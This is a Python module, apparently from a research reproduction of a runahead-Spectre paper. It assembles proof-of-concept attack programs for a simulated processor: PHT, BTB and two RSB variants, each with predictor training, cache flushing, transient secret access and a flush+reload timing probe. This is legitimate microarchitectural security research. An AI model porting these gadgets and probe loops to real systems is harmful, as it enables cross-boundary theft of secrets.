"""Attack program builders: the Fig. 8 PoC and the Fig. 4 variants.

Each builder assembles one self-contained program containing both roles
of the paper's threat model — exactly as the paper's own PoC does (the
``attacker_function`` calls ``victim_function`` in Fig. 8):

1. *victim initialization*: the victim touches its secret once (the
   secret must be cache-resident for runahead to return its value — a
   faithfully reproduced limitation: runahead loads that miss to memory
   return INV, so SPECRUN cannot leak fully-uncached secrets; the
   negative test ``test_uncached_secret_does_not_leak`` pins this down);
2. *training* (attack step ①): the poisoning loop;
3. *flush phase* (step ②): evict the probe array and the trigger word D;
4. *trigger + transient execution* (step ③): call the victim with a
   malicious index; the victim's bound ``array1_size = f(D)`` misses to
   memory, runahead begins, the poisoned prediction steers execution into
   the gadget, the transmit load leaves its footprint;
5. *wait* (the paper's line 16 ``<some_operations>``): a delay loop that
   outlasts the runahead interval so the probe runs architecturally;
6. *probe* (step ④): flush+reload timing of every probe entry, stored to
   a results array.

Word-sized arithmetic replaces byte arithmetic: ``array1[x]`` lives at
``array1 + 8*x`` and the probe stride N is in bytes (default 512).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..isa.assembler import assemble, labels as code_labels
from ..isa.instructions import WORD_BYTES
from ..isa.memory_image import MemoryImage

PROBE_ENTRIES = 256
DEFAULT_STRIDE = 512
DEFAULT_SECRET = 86          # the Fig. 9 dip index
DEFAULT_TRAIN_ITERS = 24
DEFAULT_DELAY_ITERS = 900
TRAIN_INDEX = 1              # in-bounds index the training loop passes


@dataclass
class AttackProgram:
    """An assembled attack plus everything needed to interpret its run."""

    program: object
    image: MemoryImage
    variant: str
    secret_value: int
    malicious_index: int
    results_addr: int
    probe_entries: int
    probe_stride: int
    array1_addr: int
    array2_addr: int
    secret_addr: int
    initial_sp: int
    notes: str = ""
    #: True when the in-assembly probe loop was replaced by a plain halt
    #: so an external receiver (repro.channel) measures the hierarchy.
    external_probe: bool = False
    #: Probe indices the attacker's own training phase warms.  Relevant
    #: to receivers without a working ``clflush`` (evict+reload): the
    #: program cannot flush between training and trigger, so these
    #: entries stay cache-hot and must be excluded from decoding.
    warmed_probe_indices: tuple = ()
    #: Index passed to the victim at trigger time (None = the malicious
    #: out-of-bounds index; an in-bounds value builds the benign
    #: calibration twin used by prime+probe receivers).
    trigger_index: int = None

    def read_latencies(self, core):
        """Extract the probe latencies from a finished core."""
        if self.external_probe:
            raise RuntimeError(
                "external-probe build has no in-program probe loop; "
                "measure through a repro.channel receiver instead")
        return [int(core.memory.read_word(self.results_addr + i * WORD_BYTES))
                for i in range(self.probe_entries)]


def _base_image(array1_words, probe_entries, probe_stride, secret_value,
                secret_gap_words=48):
    """Common data layout for every variant.

    The returned image also records, as ``image.train_probe_index``, the
    probe entry a training call with ``x = TRAIN_INDEX`` transmits
    (``array1[TRAIN_INDEX]``'s value) — derived from the actual fill so
    the builders' ``warmed_probe_indices`` can never drift from the data.
    """
    image = MemoryImage()
    array1 = image.alloc_array("array1", array1_words)
    array1_values = [(i * 7 + 1) % probe_entries
                     for i in range(array1_words)]
    image.write_words(array1, array1_values)
    image.train_probe_index = array1_values[TRAIN_INDEX]
    # The secret lives OUT of array1's bounds, at a known distance.
    secret = image.alloc("secret_word", WORD_BYTES,
                         align=64)
    # Force a gap so the secret is not adjacent to array1's lines.
    image.write_word(secret, secret_value)
    array2 = image.alloc("array2", probe_entries * probe_stride)
    results = image.alloc_array("results", probe_entries)
    trigger = image.alloc_array("trigger_d", 2)   # the word D
    image.write_word(trigger, array1_words)       # array1_size = f(D)
    sp = image.alloc_stack(64)
    malicious_index = (secret - array1) // WORD_BYTES
    return image, array1, secret, array2, results, trigger, sp, \
        malicious_index


def _probe_and_support(probe_entries, probe_stride, delay_iters,
                       external_probe=False):
    """Assembly for the wait loop and the flush+reload probe.

    Register convention: r1-r14 scratch for the harness, r20+ for the
    victim.  The probe visits entries in a permuted order
    ``j' = (j * 167 + 13) mod entries`` — the standard real-PoC trick
    that defeats stride prefetching (vector runahead would otherwise
    prefetch the attacker's own future probe entries).  It writes
    ``results[j'] = access latency of array2[j' * stride]``.

    ``external_probe=True`` keeps the wait loop (the runahead interval
    must still end before the footprint is architectural) but replaces
    the probe loop with a halt: a :mod:`repro.channel` receiver measures
    the hierarchy after the run instead.
    """
    if external_probe:
        return f"""
    # ---- wait for the runahead interval to end (paper Fig. 8 line 16) --
        li   r1, {delay_iters}
    delay_loop:
        addi r1, r1, -1
        bne  r1, r0, delay_loop
        fence
        halt                    # probe phase runs externally (channel)
    """
    assert probe_entries & (probe_entries - 1) == 0, \
        "probe size must be a power of two for the permutation mask"
    return f"""
    # ---- wait for the runahead interval to end (paper Fig. 8 line 16) --
        li   r1, {delay_iters}
    delay_loop:
        addi r1, r1, -1
        bne  r1, r0, delay_loop
        fence

    # ---- probe phase (attack step 4) -----------------------------------
        li   r5, 0              # j
        li   r6, @array2
        li   r7, @results
    probe_loop:
        muli r4, r5, 167        # permuted index j' = (167 j + 13) mod n
        addi r4, r4, 13
        andi r4, r4, {probe_entries - 1}
        muli r8, r4, {probe_stride}
        add  r8, r8, r6         # &array2[j'*N]
        fence
        rdtsc r9
        load r10, r8, 0
        fence
        rdtsc r11
        sub  r12, r11, r9       # access latency
        slli r13, r4, 3
        add  r13, r13, r7
        store r12, r13, 0       # results[j'] = latency
        addi r5, r5, 1
        slti r14, r5, {probe_entries}
        bne  r14, r0, probe_loop
        halt
    """


def _flush_phase(probe_entries, probe_stride, extra_flush_lines=("trigger_d",),
                 flush_probe_array=True):
    """Flush the probe array and the trigger word(s).

    ``flush_probe_array=False`` models a receiver without ``clflush``
    over the probe array (evict+reload / prime+probe): only the trigger
    word(s) — the stalling-load precondition of the attack itself, not
    part of the probe channel — are still flushed.
    """
    flushes = "\n".join(
        f"""
        li   r4, @{symbol}
        clflush r4, 0""" for symbol in extra_flush_lines)
    if not flush_probe_array:
        return f"""
    # ---- flush phase (attack step 2, trigger word only) ------------------
        {flushes}
        fence
    """
    return f"""
    # ---- flush phase (attack step 2) ------------------------------------
        li   r2, @array2
        li   r3, {probe_entries}
    flush_loop:
        clflush r2, 0
        addi r2, r2, {probe_stride}
        addi r3, r3, -1
        bne  r3, r0, flush_loop
        {flushes}
        fence
    """


def build_pht_attack(secret_value=DEFAULT_SECRET, nop_padding=0,
                     train_iters=DEFAULT_TRAIN_ITERS,
                     probe_entries=PROBE_ENTRIES,
                     probe_stride=DEFAULT_STRIDE, array1_words=16,
                     delay_iters=DEFAULT_DELAY_ITERS,
                     touch_secret=True, external_probe=False,
                     flush_probe_array=True,
                     trigger_index=None) -> AttackProgram:
    """SpectrePHT under runahead — the paper's main PoC (Figs. 8 and 9).

    ``nop_padding`` inserts a nop sled between the poisoned bounds check
    and the secret access, pushing the gadget beyond the reach of the
    reorder buffer: the Fig. 11 experiment.

    ``external_probe`` / ``flush_probe_array`` adapt the program to the
    :mod:`repro.channel` receivers (external measurement; no ``clflush``
    over the probe array).  ``trigger_index`` overrides the index passed
    to the victim at attack time — an in-bounds value produces the
    benign calibration twin (identical layout, nothing transmitted
    transiently) that prime+probe decoding baselines against.
    """
    image, array1, secret, array2, results, trigger, sp, malicious = \
        _base_image(array1_words, probe_entries, probe_stride, secret_value)
    attack_index = malicious if trigger_index is None else trigger_index

    secret_touch = """
        li   r4, @secret_word
        load r15, r4, 0          # the victim legitimately uses its secret
        fence
    """ if touch_secret else ""

    padding = f"        .repeat {nop_padding}, nop\n" if nop_padding else ""

    source = f"""
    # ======================= attacker main ================================
        jmp  attacker_main

    # ===================== victim_function(x = r20) =======================
    # Fig. 8 lines 1-7: if (x < array1_size) {{ transmit(array1[x]); }}
    victim_function:
        li   r21, @trigger_d
        load r21, r21, 0         # array1_size = f(D): the stalling load
        bge  r20, r21, victim_end    # bounds check (poisoned branch)
{padding}        slli r22, r20, 3
        add  r22, r22, r26       # &array1[x]
        load r23, r22, 0         # S = array1[x]   (secret access)
        muli r24, r23, {probe_stride}
        add  r24, r24, r27       # &array2[S*N]
        load r25, r24, 0         # transmit secret into the cache
    victim_end:
        ret

    # ======================================================================
    attacker_main:
        li   r26, @array1
        li   r27, @array2
        {secret_touch}
    # ---- training (attack step 1): poison the PHT ------------------------
        li   r1, {train_iters}
    train_loop:
        li   r20, {TRAIN_INDEX}  # in-bounds index
        call victim_function
        addi r1, r1, -1
        bne  r1, r0, train_loop
    {_flush_phase(probe_entries, probe_stride,
                  flush_probe_array=flush_probe_array)}
    # ---- trigger runahead + transient execution (step 3) -----------------
        li   r20, {attack_index}    # malicious index: &secret - &array1
        call victim_function
    {_probe_and_support(probe_entries, probe_stride, delay_iters,
                        external_probe=external_probe)}
    """
    program = assemble(source, memory_image=image)
    # Training calls the gadget with x=TRAIN_INDEX, so its transmit
    # warms that entry's probe line; relevant when the probe array is
    # not flushed afterwards (evict+reload / prime+probe builds).
    warmed = (image.train_probe_index,)
    return AttackProgram(
        program=program, image=image, variant="pht",
        secret_value=secret_value, malicious_index=malicious,
        results_addr=results, probe_entries=probe_entries,
        probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
        secret_addr=secret, initial_sp=sp,
        notes=f"nop_padding={nop_padding}",
        external_probe=external_probe, warmed_probe_indices=warmed,
        trigger_index=trigger_index)


def build_btb_attack(secret_value=DEFAULT_SECRET,
                     train_iters=DEFAULT_TRAIN_ITERS,
                     probe_entries=PROBE_ENTRIES,
                     probe_stride=DEFAULT_STRIDE, array1_words=16,
                     delay_iters=DEFAULT_DELAY_ITERS, external_probe=False,
                     flush_probe_array=True,
                     trigger_index=None) -> AttackProgram:
    """SpectreBTB under runahead (Fig. 4a).

    The victim's indirect jump target is loaded from memory; during
    training that pointer names the gadget, so the BTB learns it.  At
    attack time the pointer architecturally names the benign block but
    its cache line is flushed — the jr's source is INV during runahead
    and the poisoned BTB prediction stands.
    """
    image, array1, secret, array2, results, trigger, sp, malicious = \
        _base_image(array1_words, probe_entries, probe_stride, secret_value)
    target_ptr = image.alloc_array("target_ptr", 2)

    source = f"""
        jmp  attacker_main

    # ============ victim_function(x = r20), indirect dispatch ============
    victim_function:
        li   r21, @target_ptr
        load r21, r21, 0         # jump target: flushed at attack time
        jr   r21                 # INV source in runahead -> BTB prediction
    victim_benign:
        ret
    victim_gadget:
        slli r22, r20, 3
        add  r22, r22, r26       # &array1[x]
        load r23, r22, 0         # secret access
        muli r24, r23, {probe_stride}
        add  r24, r24, r27
        load r25, r24, 0         # transmit
        ret

    attacker_main:
        li   r26, @array1
        li   r27, @array2
        li   r4, @secret_word
        load r15, r4, 0          # victim legitimately uses its secret
        fence
    # ---- training: make the victim's jr repeatedly take the gadget ------
        li   r2, @target_ptr
        li   r3, @victim_gadget_addr
        store r3, r2, 0          # target_ptr = &gadget
        li   r1, {train_iters}
    train_loop:
        li   r20, {TRAIN_INDEX}  # in-bounds: gadget runs benignly
        call victim_function
        addi r1, r1, -1
        bne  r1, r0, train_loop
    # ---- restore the benign target, then flush the pointer --------------
        li   r3, @victim_benign_addr
        store r3, r2, 0          # architectural target: benign block
        fence
    {_flush_phase(probe_entries, probe_stride,
                  extra_flush_lines=("target_ptr",),
                  flush_probe_array=flush_probe_array)}
    # ---- trigger ---------------------------------------------------------
        li   r20, {malicious if trigger_index is None else trigger_index}
        call victim_function
    {_probe_and_support(probe_entries, probe_stride, delay_iters,
                        external_probe=external_probe)}
    """
    # Pre-resolve the two code addresses used as data.
    labels = code_labels(source)
    image.symbols["victim_gadget_addr"] = labels["victim_gadget"]
    image.symbols["victim_benign_addr"] = labels["victim_benign"]
    program = assemble(source, memory_image=image)
    return AttackProgram(
        program=program, image=image, variant="btb",
        secret_value=secret_value, malicious_index=malicious,
        results_addr=results, probe_entries=probe_entries,
        probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
        secret_addr=secret, initial_sp=sp,
        external_probe=external_probe,
        warmed_probe_indices=(image.train_probe_index,),
        trigger_index=trigger_index)


def build_rsb_overwrite_attack(secret_value=DEFAULT_SECRET,
                               probe_entries=PROBE_ENTRIES,
                               probe_stride=DEFAULT_STRIDE,
                               array1_words=16,
                               delay_iters=DEFAULT_DELAY_ITERS,
                               external_probe=False,
                               flush_probe_array=True,
                               trigger_index=None) \
        -> AttackProgram:
    """SpectreRSB, direct-overwrite variant (Fig. 4b).

    The victim function replaces its own return address on the stack with
    a value loaded from a flushed line (``F`` in the figure).  The RSB
    still predicts the original call-site continuation — where the
    disclosure gadget sits, reachable only speculatively: architectural
    control always goes to ``F``'s benign landing point.
    """
    image, array1, secret, array2, results, trigger, sp, malicious = \
        _base_image(array1_words, probe_entries, probe_stride, secret_value)
    hijack_ptr = image.alloc_array("hijack_ptr", 2)

    source = f"""
        jmp  attacker_main

    # ===== victim: overwrites its return address with F = load(ptr) ======
    victim_function:
        li   r21, @hijack_ptr
        load r21, r21, 0         # F: flushed -> stalling load
        store r21, sp, 0         # replace the return address
        ret                      # target INV in runahead; RSB stands

    attacker_main:
        li   r26, @array1
        li   r27, @array2
        li   r4, @secret_word
        load r15, r4, 0          # victim legitimately uses its secret
        fence
    # ---- plant F: the architectural landing point ------------------------
        li   r2, @hijack_ptr
        li   r3, @benign_landing_addr
        store r3, r2, 0
        fence
    {_flush_phase(probe_entries, probe_stride,
                  extra_flush_lines=("hijack_ptr",),
                  flush_probe_array=flush_probe_array)}
    # ---- trigger ----------------------------------------------------------
        li   r20, {malicious if trigger_index is None else trigger_index}
        call victim_function
    # The RSB predicts this point: the gadget runs only transiently.
    rsb_gadget:
        slli r22, r20, 3
        add  r22, r22, r26
        load r23, r22, 0         # secret access
        muli r24, r23, {probe_stride}
        add  r24, r24, r27
        load r25, r24, 0         # transmit
    benign_landing:
    {_probe_and_support(probe_entries, probe_stride, delay_iters,
                        external_probe=external_probe)}
    """
    labels = code_labels(source)
    image.symbols["benign_landing_addr"] = labels["benign_landing"]
    program = assemble(source, memory_image=image)
    return AttackProgram(
        program=program, image=image, variant="rsb-overwrite",
        secret_value=secret_value, malicious_index=malicious,
        results_addr=results, probe_entries=probe_entries,
        probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
        secret_addr=secret, initial_sp=sp,
        external_probe=external_probe, trigger_index=trigger_index)


def build_rsb_flush_attack(secret_value=DEFAULT_SECRET,
                           probe_entries=PROBE_ENTRIES,
                           probe_stride=DEFAULT_STRIDE, array1_words=16,
                           delay_iters=DEFAULT_DELAY_ITERS,
                           external_probe=False, flush_probe_array=True,
                           trigger_index=None) -> AttackProgram:
    """SpectreRSB, stack-flush variant (Fig. 4c).

    The attacker desynchronizes the RSB from the in-memory stack (the
    single-address-space stand-in for ret2spec's stale cross-context RSB
    entries), flushes the victim's stack line, and triggers the victim's
    ``ret``: its in-memory return address misses to memory, runahead
    begins with the ret itself as the stalling load, and the stale RSB
    prediction — pointing at the gadget — steers transient execution.
    """
    image, array1, secret, array2, results, trigger, sp, malicious = \
        _base_image(array1_words, probe_entries, probe_stride, secret_value)
    # The word the victim's ret will architecturally read.
    ret_slot = sp - WORD_BYTES

    source = f"""
        jmp  attacker_main

    attacker_main:
        li   r26, @array1
        li   r27, @array2
        li   r4, @secret_word
        load r15, r4, 0          # victim legitimately uses its secret
        fence
    # ---- plant the architectural return target on the stack -------------
        li   r2, @benign_landing_addr
        addi sp, sp, -8
        store r2, sp, 0          # [sp] = benign continuation
        fence
    {_flush_phase(probe_entries, probe_stride,
                  flush_probe_array=flush_probe_array)}
        clflush sp, 0            # evict the victim's stack line (Fig. 4c)
        fence
        li   r20, {malicious if trigger_index is None else trigger_index}
        call tramp               # RSB now holds &rsb_gadget
    # RSB-predicted return point: the disclosure gadget (transient only).
    rsb_gadget:
        slli r22, r20, 3
        add  r22, r22, r26
        load r23, r22, 0         # secret access
        muli r24, r23, {probe_stride}
        add  r24, r24, r27
        load r25, r24, 0         # transmit
        jmp  rsb_gadget_end

    tramp:
        # Desync: drop the just-pushed frame and enter the victim's
        # return path without popping the RSB.
        addi sp, sp, 8
        jmp  victim_ret
    victim_ret:
        ret                      # [sp] flushed: stalling load, RSB stands

    rsb_gadget_end:
    benign_landing:
        addi sp, sp, 8           # unwind the planted slot
    {_probe_and_support(probe_entries, probe_stride, delay_iters,
                        external_probe=external_probe)}
    """
    labels = code_labels(source)
    image.symbols["benign_landing_addr"] = labels["benign_landing"]
    program = assemble(source, memory_image=image)
    return AttackProgram(
        program=program, image=image, variant="rsb-flush",
        secret_value=secret_value, malicious_index=malicious,
        results_addr=results, probe_entries=probe_entries,
        probe_stride=probe_stride, array1_addr=array1, array2_addr=array2,
        secret_addr=secret, initial_sp=sp,
        external_probe=external_probe, trigger_index=trigger_index)


_BUILDERS = {
    "pht": build_pht_attack,
    "btb": build_btb_attack,
    "rsb-overwrite": build_rsb_overwrite_attack,
    "rsb-flush": build_rsb_flush_attack,
}


def build_attack(variant, **kwargs) -> AttackProgram:
    """Build an attack program by variant name."""
    try:
        builder = _BUILDERS[variant]
    except KeyError:
        raise ValueError(f"unknown attack variant: {variant!r}") from None
    return builder(**kwargs)
